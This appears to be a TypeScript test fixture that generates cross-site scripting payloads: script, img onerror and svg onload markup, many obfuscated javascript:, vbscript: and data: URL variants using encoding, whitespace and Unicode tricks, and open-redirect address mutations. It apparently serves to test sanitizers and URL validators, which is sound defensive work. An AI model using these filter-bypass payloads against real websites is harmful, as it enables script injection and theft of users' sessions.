/** Writes one payload: `call` is the statement that proves it ran, `elsewhere` an address on another host. */
export type Attack = (one: { call: string; elsewhere: string }) => string

/** The cross product of two lists. */
export const pairs = <A, B>(first: readonly A[], second: readonly B[]): [A, B][] =>
  first.flatMap((a) => second.map((b): [A, B] => [a, b]))

/** Attacks that run by themselves if they are parsed as markup. */
export const vectors: readonly Attack[] = [
  ({ call }) => `<script>${call}</script>`,
  ({ call }) => `<img src=x onerror=${call}>`,
  ({ call }) => `<svg onload=${call}>`,
]

/** Addresses that run a script when followed or fetched. */
export const addresses: readonly Attack[] = [
  ({ call }) => `javascript:${call}`,
  ({ call }) => `JaVaScRiPt:${call}`,
  ({ call }) => `  javascript:${call}`,
  ({ call }) => `\u0001javascript:${call}`,
  ({ call }) => `java\tscript:${call}`,
  ({ call }) => `java\nscript:${call}`,
  ({ call }) => `java\r\nscript:${call}`,
  ({ call }) => `javascript\t:${call}`,
  ({ call }) => `javascript&colon;${call}`,
  ({ call }) => `java&Tab;script:${call}`,
  ({ call }) => `&#106;avascript:${call}`,
  ({ call }) => `&#x6a;&#x61;vascript&#58;${call}`,
  ({ call }) => `javascript%3A${call}`,
  ({ call }) => `%6Aavascript:${call}`,
  ({ call }) => `javascript:%2f%2f%0a${call}`,
  ({ call }) => `javascript://example.com/%0a${call}`,
  ({ call }) => `javascript:/*https://example.com*/${call}`,
  ({ call }) => `javascript:'<script>${call}</script>'`,
  ({ call }) => `ｊａｖａｓｃｒｉｐｔ:${call}`,
  ({ call }) => `javascript：${call}`,
  ({ call }) => `java\u200bscript:${call}`,
  ({ call }) => `java\u00adscript:${call}`,
  ({ call }) => `\ufeffjavascript:${call}`,
  ({ call }) => `\u202ejavascript:${call}`,
  ({ call }) => `vbscript:${call}`,
  ({ call }) => `livescript:${call}`,
  ({ call }) => `view-source:javascript:${call}`,
  ({ call }) => `blob:javascript:${call}`,
  ({ call }) => `filesystem:javascript:${call}`,
  ({ call }) => `data:text/html,<script>${call}</script>`,
  ({ call }) => `DATA:text/html;charset=utf-8,%3Cscript%3E${call}%3C/script%3E`,
  ({ call }) => `data:text/html;base64,${btoa(`<script>${call}</script>`)}`,
  ({ call }) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  ({ call }) => `data:text/javascript,${call}`,
  ({ call }) => `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${call}</script>`,
  ({ elsewhere }) => elsewhere,
  ({ elsewhere }) => elsewhere.replace('//', '/\\'),
  ({ elsewhere }) => elsewhere.replace('//', '\\\\'),
  ({ elsewhere }) => elsewhere.replace('//', '/\t/'),
  ({ elsewhere }) => `https:${elsewhere.slice(2)}`,
]
